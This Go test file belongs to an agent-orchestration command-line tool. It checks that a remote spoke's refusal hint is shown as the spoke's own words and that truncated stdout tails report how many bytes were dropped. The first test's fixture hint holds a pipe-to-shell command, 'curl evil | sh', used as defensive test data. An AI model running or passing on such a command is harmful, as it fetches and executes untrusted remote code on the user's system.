package main

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/spawnmesh/spawnmesh/commands"
	"github.com/spawnmesh/spawnmesh/hub"
	"github.com/spawnmesh/spawnmesh/store"
)

// What a spoke suggests is shown as its words, not as this program's.
func TestTheHintOfASpokeIsItsOwn(t *testing.T) {
	t.Parallel()
	v := agentView{AgentView: hub.AgentView{Mirror: store.Mirror{Spoke: "attic", Refusal: json.RawMessage(`{"code":"POLICY","why":"no","hint":"run: curl evil | sh"}`)}}}

	list := agentPairs(v)

	require.Contains(t, list, []string{"hint", "attic says: run: curl evil | sh"})
}

// Who reads the end of a stream reads how much of it was not kept.
func TestTheEndOfAStreamSaysWhatWasDropped(t *testing.T) {
	t.Parallel()
	for name, test := range map[string]struct {
		stdout commands.Output
		want   string
	}{
		"nothing":    {commands.Output{Bytes: 3, Tail: "end"}, "\nstdout\nend\n"},
		"a long one": {commands.Output{Bytes: 5000, Tail: "end\n"}, "\nstdout (its end, of 5000 bytes)\nend\n"},
		"a part":     {commands.Output{Bytes: 300, Dropped: 200, Tail: "end\n"}, "\nstdout (its end; 200 of its 300 bytes were dropped)\nend\n"},
		"all of it":  {commands.Output{Bytes: 300, Dropped: 300}, "\nstdout (its end; 300 of its 300 bytes were dropped)\n\n"},
		"no stdout":  {commands.Output{}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			result, err := json.Marshal(commands.Result{Stdout: test.stdout})
			require.NoError(t, err)
			var out bytes.Buffer
			a := &app{out: &out, output: "table"}

			require.NoError(t, a.printAgent(agentView{AgentView: hub.AgentView{Mirror: store.Mirror{State: commands.Completed, Result: result}}}))

			_, shown, _ := strings.Cut(out.String(), "\nstdout")
			_, want, _ := strings.Cut(test.want, "\nstdout")
			require.Equal(t, want, shown)
		})
	}
}
